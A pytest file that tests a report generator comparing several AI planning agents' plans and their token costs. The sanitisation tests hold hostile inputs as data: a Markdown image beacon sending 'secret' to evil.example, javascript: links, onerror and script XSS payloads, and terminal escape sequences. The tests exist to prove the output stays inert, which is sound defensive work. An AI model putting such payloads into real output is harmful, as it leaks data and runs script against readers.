"""The aggregate report: JSON summary, Markdown page and cost estimates over real plan checks."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from sandbox_runner.agents.prompt import DEFAULT_SECTIONS
from sandbox_runner.plans.pricing import estimate_cost
from sandbox_runner.plans.report import (
    REPORT_SCHEMA_DOC,
    RunRecord,
    build_report,
    render_markdown,
    write_report,
)
from sandbox_runner.plans.results import PlanResult, PlanStatus
from sandbox_runner.plans.validate import validate_plan
from sandbox_runner.types import Usage

REPO_FILES = ["src/app/main.py", "src/app/cache.py", "src/app/config.py", "tests/test_cache.py"]
STARTED = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)

RISK_BULLETS = """\
- Stale entries after a write.
  They linger until the TTL expires.
  - nested detail, not a risk of its own
- Memory growth under load.
- Cache stampede on cold start.
- Config drift between hosts.
- Harder debugging.
- Sixth risk, beyond the first five.
"""

RISK_TABLE = """\
| Risk | Likelihood | Mitigation |
|------|:----------:|------------|
| Key leaks into logs | low | redact |
| Timing attacks | medium | constant-time compare |
"""


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    for relative in REPO_FILES:
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text("x\n")
    return root


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    path = tmp_path / "plans" / "gentle-breeze"
    path.mkdir(parents=True)
    return path


def plan_text(
    files: list[str],
    *,
    title: str = "Plan: add a cache",
    approach: str = "Wrap the loader in a small LRU cache.",
    risks: str = RISK_BULLETS,
) -> str:
    parts = [f"# {title}", ""]
    for section in DEFAULT_SECTIONS:
        parts.append(f"## {section}")
        if section == "Approach":
            parts.append(approach)
        elif section == "Risks":
            parts.append(risks)
        elif section.startswith("Critical"):
            parts += [f"- {path} - needed for {section.lower()}" for path in files]
        else:
            parts.append(f"Text about {section}.")
        parts.append("")
    return "\n".join(parts)


def make_result(
    label: str,
    workspace: Path,
    out_dir: Path,
    *,
    text: str = "",
    status: PlanStatus = PlanStatus.COMPLETE,
    model: str = "claude-sonnet-4-5-20250929",
    usage: Usage | None = None,
    reason: str = "",
) -> PlanResult:
    check = validate_plan(text, sections=DEFAULT_SECTIONS, workspace=workspace) if text else None
    return PlanResult(
        label=label,
        agent="Plan",
        model=model,
        status=status,
        reason=reason,
        plan_path=out_dir / f"{label}.md" if text else None,
        plan_text=text,
        check=check,
        suggested_commands=["pip install cachetools"] if text else [],
        turns=7,
        tool_calls=12,
        usage=usage or Usage(1000, 200, 0, 0),
        wall_seconds=61.5,
        transcript=out_dir / f"{label}.transcript.jsonl",
    )


def make_record(
    out_dir: Path,
    results: list[PlanResult],
    perspectives: list[str | None],
    **overrides: Any,
) -> RunRecord:
    fields: dict[str, Any] = {
        "name": "gentle-breeze",
        "out_dir": out_dir,
        "requirements": "Add a cache to the loader.\nKeep the API | stable.",
        "repository": "/home/me/repo",
        "git_head": "0123456789abcdef0123456789abcdef01234567",
        "started_at": STARTED,
        "finished_at": STARTED + timedelta(seconds=95.5),
        "results": results,
        "perspectives": perspectives,
        "workspace_unchanged": True,
        "exit_code": 0,
    }
    return RunRecord(**{**fields, **overrides})


@pytest.fixture
def three(workspace: Path, out_dir: Path) -> RunRecord:
    """simplicity (valid, Sonnet), security (incomplete, Opus 4.1), performance (failed)."""
    simplicity = make_result(
        "simplicity",
        workspace,
        out_dir,
        text=plan_text(["src/app/main.py", "src/app/cache.py", "tests/test_cache.py"]),
        usage=Usage(1_000_000, 100_000, 10_000, 200_000),
    )
    security = make_result(
        "security",
        workspace,
        out_dir,
        text=plan_text(
            ["src/app/cache.py", "src/app/main.py", "src/app/config.py"],
            title="Plan: a safe cache",
            approach="Sign every cache key. " + "Explain the design in detail. " * 20,
            risks=RISK_TABLE,
        ),
        status=PlanStatus.INCOMPLETE,
        model="claude-opus-4-1-20250805",
        usage=Usage(10_000, 1_000, 0, 0),
        reason="turn limit reached",
    )
    performance = make_result(
        "performance",
        workspace,
        out_dir,
        status=PlanStatus.FAILED,
        model="scripted",
        usage=Usage(50, 5, 0, 0),
        reason="model error: overloaded",
    )
    return make_record(
        out_dir,
        [simplicity, security, performance],
        ["simplicity", "security", "performance"],
        exit_code=1,
    )


def test_matrix_lists_each_file_with_the_plans_that_name_it(three: RunRecord) -> None:
    files = build_report(three).document["critical_files"]
    assert files["matrix"] == [
        {"path": "src/app/cache.py", "named_by": ["simplicity", "security"], "count": 2},
        {"path": "src/app/main.py", "named_by": ["simplicity", "security"], "count": 2},
        {"path": "src/app/config.py", "named_by": ["security"], "count": 1},
        {"path": "tests/test_cache.py", "named_by": ["simplicity"], "count": 1},
    ]
    # The failed plan names no files, so it does not stop files from being shared.
    assert files["shared_by_all"] == ["src/app/cache.py", "src/app/main.py"]
    assert files["first_choices"] == {
        "simplicity": "src/app/main.py",
        "security": "src/app/cache.py",
    }
    assert files["agree_on_first"] is False


def test_disagreements_hold_approach_risks_and_unique_files(three: RunRecord) -> None:
    found = build_report(three).document["disagreements"]
    assert found["approach"]["simplicity"] == "Wrap the loader in a small LRU cache."
    security_approach = found["approach"]["security"]
    assert security_approach.startswith("Sign every cache key. Explain")
    assert security_approach.endswith("…") and len(security_approach) <= 301
    assert "performance" not in found["approach"]
    assert found["risks"]["simplicity"] == [
        "Stale entries after a write. They linger until the TTL expires.",
        "Memory growth under load.",
        "Cache stampede on cold start.",
        "Config drift between hosts.",
        "Harder debugging.",
    ]
    assert found["risks"]["security"] == [
        "Key leaks into logs — low — redact",
        "Timing attacks — medium — constant-time compare",
    ]
    assert found["unique_files"] == {
        "simplicity": ["tests/test_cache.py"],
        "security": ["src/app/config.py"],
    }


def test_failures_list_failed_incomplete_and_invalid_plans(
    three: RunRecord, workspace: Path, out_dir: Path
) -> None:
    invalid = make_result(
        "testability",
        workspace,
        out_dir,
        text=plan_text(["src/app/main.py", "src/app/gone.py", "tests/test_cache.py"]),
    )
    three.results.append(invalid)
    three.perspectives.append("testability")
    failures = build_report(three).document["failures"]
    assert [(f["label"], f["status"]) for f in failures] == [
        ("security", "incomplete"),
        ("performance", "failed"),
        ("testability", "complete"),
    ]
    assert failures[0]["reason"] == "turn limit reached"
    assert failures[1] == {
        "label": "performance",
        "perspective": "performance",
        "status": "failed",
        "reason": "model error: overloaded",
        "problems": [],
    }
    assert failures[2]["reason"] == "the plan did not pass validation"
    assert failures[2]["problems"] == [
        "critical file does not exist in the repository: src/app/gone.py"
    ]


def test_plans_carry_relative_paths_tokens_and_cost(three: RunRecord) -> None:
    simplicity, security, performance = build_report(three).document["plans"]
    assert simplicity["plan_file"] == "simplicity.md"
    assert simplicity["transcript"] == "simplicity.transcript.jsonl"
    assert performance["plan_file"] is None
    assert simplicity["tokens"] == {
        "input": 1_000_000,
        "output": 100_000,
        "cache_creation": 10_000,
        "cache_read": 200_000,
        "total": 1_310_000,
    }
    # Sonnet: 3 + 0.1 × 15 + 0.01 × 3.75 + 0.2 × 0.30 dollars.
    assert simplicity["cost_usd"] == pytest.approx(4.5975)
    assert security["cost_usd"] == pytest.approx(0.01 * 15 + 0.001 * 75)
    assert performance["cost_usd"] is None
    assert (simplicity["valid"], security["valid"], performance["valid"]) == (True, False, False)
    assert simplicity["title"] == "Plan: add a cache"
    assert simplicity["suggested_commands"] == ["pip install cachetools"]


def test_totals_sum_tokens_and_the_known_costs(three: RunRecord) -> None:
    totals = build_report(three).document["totals"]
    assert totals["tokens"]["input"] == 1_000_000 + 10_000 + 50
    assert totals["tokens"]["total"] == 1_310_000 + 11_000 + 55
    assert totals["cost_usd"] == pytest.approx(4.5975 + 0.225)
    assert totals["cost_complete"] is False
    assert (totals["plans"], totals["complete"], totals["valid"]) == (3, 1, 1)


def test_cost_is_unknown_when_no_model_has_a_price(workspace: Path, out_dir: Path) -> None:
    only = make_result("plan", workspace, out_dir, text=plan_text(REPO_FILES[:3]), model="scripted")
    totals = build_report(make_record(out_dir, [only], [None])).document["totals"]
    assert totals["cost_usd"] is None
    assert totals["cost_complete"] is False


@pytest.mark.parametrize(
    ("model", "expected"),
    [
        ("claude-opus-4-1-20250805", 15 + 75),
        ("claude-opus-4-20250514", 15 + 75),
        ("claude-opus-4-5-20251101", 5 + 25),
        ("claude-sonnet-4-5", 3 + 15),
        ("claude-3-7-sonnet-latest", 3 + 15),
        ("claude-haiku-4-5", 1 + 5),
        ("claude-3-5-haiku-20241022", 0.80 + 4),
    ],
)
def test_estimate_cost_uses_the_model_family_price(model: str, expected: float) -> None:
    assert estimate_cost(model, Usage(1_000_000, 1_000_000)) == pytest.approx(expected)


@pytest.mark.parametrize("model", ["scripted", "gpt-4o", "us.anthropic.claude-sonnet-4"])
def test_estimate_cost_is_none_for_unknown_models(model: str) -> None:
    assert estimate_cost(model, Usage(1000, 1000)) is None


def test_run_fields_pass_through(three: RunRecord) -> None:
    report = build_report(three).document
    assert report["schema_version"] == 2
    assert report["run"] == "gentle-breeze"
    assert report["exit_code"] == 1
    assert report["status"] == "plan_failed"
    assert report["wall_seconds"] == 95.5
    assert report["started_at"] == "2026-03-01T12:00:00+00:00"
    assert report["git_head"] == "0123456789abcdef0123456789abcdef01234567"


def test_a_changed_workspace_outranks_failed_plans(three: RunRecord) -> None:
    three.workspace_unchanged = False
    three.workspace_problem = "src/app/main.py was modified"
    report = build_report(three).document
    assert report["status"] == "workspace_changed"
    assert report["workspace_problem"] == "src/app/main.py was modified"
    assert "❌ **workspace changed:** src/app/main.py was modified" in render_markdown(report)


def test_two_valid_plans_report_ok_and_agree_on_first(workspace: Path, out_dir: Path) -> None:
    plans = {"simplicity": REPO_FILES[:3], "testability": REPO_FILES}
    results = [
        make_result(label, workspace, out_dir, text=plan_text(files))
        for label, files in plans.items()
    ]
    report = build_report(make_record(out_dir, results, ["simplicity", "testability"])).document
    assert report["status"] == "ok"
    assert report["critical_files"]["agree_on_first"] is True
    assert report["disagreements"]["unique_files"] == {
        "simplicity": [],
        "testability": ["tests/test_cache.py"],
    }


def test_front_matter_and_a_title_starting_with_approach_are_not_sections(
    workspace: Path, out_dir: Path
) -> None:
    text = "---\n# Approach: from the front matter\nid: 1\n---\n" + plan_text(
        REPO_FILES[:3], title="Approach to caching", approach="The real approach."
    )
    only = make_result("plan", workspace, out_dir, text=text)
    report = build_report(make_record(out_dir, [only], [None])).document
    assert report["disagreements"]["approach"] == {"plan": "The real approach."}


def test_markdown_has_the_side_by_side_and_critical_file_tables(three: RunRecord) -> None:
    three.perspectives[2] = "perf | ops"
    markdown = render_markdown(build_report(three).document)
    assert markdown.startswith("# Plan report: gentle-breeze\n")
    assert "| | simplicity | security | perf \\| ops |" in markdown
    assert "| Status | ✅ complete | ⚠️ incomplete | ❌ failed |" in markdown
    assert "| Plan | [simplicity.md](simplicity.md) | [security.md](security.md) | — |" in markdown
    assert "| File | simplicity | security | Named by |" in markdown
    # Shared files come first, in bold; the others follow.
    rows = [line for line in markdown.splitlines() if line.startswith("| ") and "of 2" in line]
    assert rows == [
        "| **`src/app/cache.py`** | ✓ | ✓ | 2 of 2 |",
        "| **`src/app/main.py`** | ✓ | ✓ | 2 of 2 |",
        "| `src/app/config.py` | | ✓ | 1 of 2 |",
        "| `tests/test_cache.py` | ✓ | | 1 of 2 |",
    ]
    assert "> Keep the API | stable." in markdown
    assert "## Where the plans disagree" in markdown
    assert "- **security:** `src/app/config.py`" in markdown
    assert "No critical files from: perf | ops (failed)." in markdown
    assert "- ❌ **perf | ops** (failed): model error: overloaded" in markdown
    assert "**Totals:** 3 plans, 1 complete, 1 valid" in markdown
    assert "(unknown for 1 plan)" in markdown
    assert_tables_are_well_formed(markdown)


def test_markdown_escapes_pipes_and_newlines_in_cells(workspace: Path, out_dir: Path) -> None:
    only = make_result(
        "plan", workspace, out_dir, text=plan_text(REPO_FILES[:3], title="Cache | loader")
    )
    report = build_report(make_record(out_dir, [only], ["line one\nline two"])).document
    markdown = render_markdown(report)
    assert "| Title | Cache \\| loader |" in markdown
    # A name is shown on one line (the CLI refuses such names; old reports may hold them).
    assert "| | line one?line two |" in markdown
    assert_tables_are_well_formed(markdown)


HOSTILE = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 \x1b[2J\x07"


def test_markdown_is_inert_whatever_the_model_and_the_requirements_say(
    workspace: Path, out_dir: Path
) -> None:
    approach = (
        "See ![](http://evil.example/?d=secret) and [docs](javascript:alert(1)) "
        "but [the spec](https://example.com/spec) is fine." + HOSTILE
    )
    risks = "- <img src=x onerror=alert(1)>\n- [x]: data:text/html,boo"
    text = plan_text(REPO_FILES[:3], title="Title" + HOSTILE, approach=approach, risks=risks)
    only = make_result("img", workspace, out_dir, text=text, reason="model said \x1b[31mred")
    record = make_record(
        out_dir,
        [only],
        ["<img src=x onerror=alert(1)>"],
        requirements="Do it" + HOSTILE + "\n![beacon](https://evil.example/b.png)",
    )
    markdown = render_markdown(build_report(record).document)
    assert "\x1b" not in markdown and "\x07" not in markdown
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown
    assert "![" not in markdown and "!\\[](http://evil.example/?d=secret)" in markdown
    assert "](javascript:" not in markdown and "[docs]\\(javascript:alert(1))" in markdown
    assert "[the spec](https://example.com/spec)" in markdown
    assert_tables_are_well_formed(markdown)


def test_markdown_reads_well_for_one_plan(workspace: Path, out_dir: Path) -> None:
    only = make_result("plan", workspace, out_dir, text=plan_text(REPO_FILES[:3]))
    markdown = render_markdown(build_report(make_record(out_dir, [only], [None])).document)
    assert "| | plan |" in markdown
    assert "| File | Why |" in markdown  # one plan: its reasons instead of a matrix
    assert "| `src/app/main.py` | needed for critical files for implementation |" in markdown
    assert "## Approach and risks" in markdown
    assert "disagree" not in markdown
    assert "Files only one plan names" not in markdown
    assert "**`" not in markdown  # nothing is "named by all" with one plan
    assert "None: every plan is complete and valid" in markdown


def test_markdown_reads_well_for_eight_plans(workspace: Path, out_dir: Path) -> None:
    labels = [f"view-{number}" for number in range(8)]
    results = [
        make_result(label, workspace, out_dir, text=plan_text(REPO_FILES[:3])) for label in labels
    ]
    markdown = render_markdown(build_report(make_record(out_dir, results, list(labels))).document)
    assert "| | " + " | ".join(labels) + " |" in markdown
    assert "| **`src/app/cache.py`** | ✓ | ✓ | ✓ | ✓ | ✓ | ✓ | ✓ | ✓ | 8 of 8 |" in markdown
    assert "None: every critical file is named by at least two plans." in markdown
    assert_tables_are_well_formed(markdown)


def test_links_are_relative_and_url_quoted(workspace: Path, out_dir: Path) -> None:
    only = make_result("plan", workspace, out_dir, text=plan_text(REPO_FILES[:3]))
    only.plan_path = out_dir / "my plans" / "plan (1).md"
    only.transcript = out_dir.parent / "elsewhere.jsonl"
    report = build_report(make_record(out_dir, [only], [None])).document
    assert report["plans"][0]["plan_file"] == "my plans/plan (1).md"
    assert report["plans"][0]["transcript"] == "../elsewhere.jsonl"
    markdown = render_markdown(report)
    assert "[plan (1).md](my%20plans/plan%20%281%29.md)" in markdown
    assert "[elsewhere.jsonl](../elsewhere.jsonl)" in markdown


def test_write_report_writes_json_and_markdown(three: RunRecord) -> None:
    written = write_report(three)
    json_path, markdown_path = written.json_path, written.markdown_path
    html_path = written.html_path
    assert written.document == json.loads(json_path.read_text())
    assert written.status == written.document["status"]
    assert json_path == three.out_dir / "report.json"
    assert json.loads(json_path.read_text(encoding="utf-8")) == build_report(three).document
    assert markdown_path.read_text(encoding="utf-8") == render_markdown(
        build_report(three).document
    )
    three.exit_code = 0
    write_report(three)  # replacing an earlier report leaves no temporary files behind
    assert json.loads(json_path.read_text(encoding="utf-8"))["exit_code"] == 0
    assert html_path.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    names = sorted(path.name for path in three.out_dir.iterdir())
    assert names == ["report.html", "report.json", "report.md"]


def test_record_rejects_perspectives_that_do_not_match_results(out_dir: Path) -> None:
    with pytest.raises(ValueError, match="0 results but 1 perspectives"):
        make_record(out_dir, [], [None])


def test_schema_doc_names_every_key_build_report_produces(three: RunRecord) -> None:
    report = build_report(three).document
    keys = {*report, *report["plans"][0], *report["totals"], *report["critical_files"]}
    keys |= {*report["disagreements"], *report["failures"][0], *report["plans"][0]["tokens"]}
    missing = sorted(key for key in keys if f"`{key}`" not in REPORT_SCHEMA_DOC)
    assert missing == []


def assert_tables_are_well_formed(markdown: str) -> None:
    """Every row of every table has as many cells as its header."""
    unescaped_pipe = re.compile(r"(?<!\\)\|")
    widths: list[int] = []
    for line in [*markdown.splitlines(), ""]:
        if line.startswith("|"):
            widths.append(len(unescaped_pipe.findall(line)))
        elif widths:
            assert len(set(widths)) == 1, widths
            widths = []


def test_model_written_html_is_inert_in_the_markdown() -> None:
    from sandbox_runner.plans.report_markdown import render_markdown

    plan = {
        "perspective": "x", "label": "x", "agent": "Plan", "model": "m", "status": "failed",
        "valid": False, "reason": "<img src=https://evil/beacon>", "plan_file": None,
        "transcript": None, "title": "<script>alert(1)</script>", "summary": "a | b",
        "problems": ["<b>bold</b>"], "critical_files": [], "suggested_commands": [],
        "turns": 1, "tool_calls": 0,
        "tokens": {"input": 0, "output": 0, "cache_creation": 0, "cache_read": 0, "total": 0},
        "cost_usd": None, "wall_seconds": 1.0,
    }  # fmt: skip
    report = {
        "run": "r", "status": "plan_failed", "exit_code": 1, "git_head": None, "repository": "/r",
        "workspace_unchanged": True, "workspace_problem": "", "started_at": "s", "finished_at": "f",
        "wall_seconds": 1.0, "requirements": "<iframe>", "plans": [plan],
        "critical_files": {
            "matrix": [], "shared_by_all": [], "first_choices": {}, "agree_on_first": True,
        },
        "disagreements": {
            "approach": {"x": "<img src=x>"}, "risks": {"x": ["<a href=y>"]}, "unique_files": {},
        },
        "failures": [
            {"label": "x", "perspective": "x", "status": "failed", "reason": plan["reason"],
             "problems": plan["problems"]},
        ],
        "totals": {"tokens": plan["tokens"], "cost_usd": None, "cost_complete": False,
                   "plans": 1, "complete": 0, "valid": 0},
    }  # fmt: skip
    text = render_markdown(report)
    for raw in ("<img", "<script", "<b>", "<iframe", "<a href"):
        assert raw not in text
    assert "&lt;script&gt;" in text


def test_complete_but_invalid_plans_are_not_ok(workspace: Path, out_dir: Path) -> None:
    """Every plan invalid, exit 1, yet status "ok" and "every plan completed"."""
    missing_files = plan_text(["src/app/main.py", "src/app/nowhere.py"])
    results = [make_result(label, workspace, out_dir, text=missing_files) for label in ("a", "b")]
    report = build_report(make_record(out_dir, results, ["a", "b"], exit_code=1)).document
    assert report["status"] == "plan_invalid"
    headline = render_markdown(report).splitlines()[2]
    assert "ok" not in headline.split(":")[0]
    assert "2 of 2 plans did not pass validation" in headline


def test_the_headline_counts_what_happened_to_each_plan(three: RunRecord) -> None:
    headline = render_markdown(build_report(three).document).splitlines()[2]
    assert "plan_failed" in headline
    assert "1 of 3 plans failed, 1 incomplete, 1 valid" in headline


def test_an_interrupted_run_says_so(three: RunRecord) -> None:
    three.exit_code = 130
    report = build_report(three).document
    assert report["status"] == "interrupted"
    assert "interrupted" in render_markdown(report).splitlines()[2]


def test_a_workspace_check_without_git_status_is_not_called_unchanged(three: RunRecord) -> None:
    """`git status` failed, yet the report said "workspace unchanged"."""
    three.workspace_check = "files_only"
    three.workspace_check_note = "`git status` could not run after the run"
    report = build_report(three).document
    assert report["workspace_check"] == "files_only"
    assert report["workspace_check_note"] == "`git status` could not run after the run"
    header = render_markdown(report).split("## Requirements")[0]
    assert "workspace unchanged" not in header
    assert "`git status` could not run after the run" in header


def test_the_reports_show_the_timings_and_the_paths(three: RunRecord) -> None:
    three.workspace_unchanged = False
    three.workspace_problem = "files changed outside the sandbox: a.py (added), +2 more"
    three.workspace_changed_paths = ["a.py (added)"]
    three.workspace_changed_more = 2
    three.workspace_check_ms = {
        "before_files": 812,
        "before_git_status": 1530,
        "after_files": 790,
        "after_git_status": None,
    }
    report = build_report(three)
    document = json.loads(report.to_json())
    assert document["workspace_changed_paths"] == ["a.py (added)"]
    assert document["workspace_changed_more"] == 2
    assert document["workspace_check_ms"]["after_git_status"] is None
    words = "files before 812 ms, `git status` before 1.5 s, files after 790 ms"
    assert f"workspace check: {words}" in report.to_markdown()
    assert f"Workspace check: {words.replace('`', '')}" in report.to_html()
    assert "a.py (added), +2 more" in report.to_markdown().split("## Requirements")[0]


def test_the_docs_hold_the_schema_doc() -> None:
    schema = (Path(__file__).resolve().parents[2] / "docs" / "report-schema.md").read_text()
    assert REPORT_SCHEMA_DOC in schema
